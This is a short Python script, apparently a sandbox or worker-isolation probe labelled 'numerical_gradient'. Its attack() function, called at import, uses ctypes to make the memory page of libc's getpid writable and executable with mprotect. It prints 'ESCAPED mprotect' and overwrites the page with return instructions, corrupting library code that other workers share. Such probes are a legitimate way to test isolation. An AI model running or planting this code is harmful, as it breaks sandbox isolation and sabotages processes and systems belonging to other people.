"""numerical_gradient: Write to the pages of the libraries that all workers share."""

import ctypes


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    address = ctypes.cast(libc.getpid, ctypes.c_void_p).value & ~4095
    if libc.mprotect(ctypes.c_void_p(address), 4096, 7) == 0:
        print("ESCAPED mprotect")
        ctypes.memset(address, 0xC3, 4096)


attack()
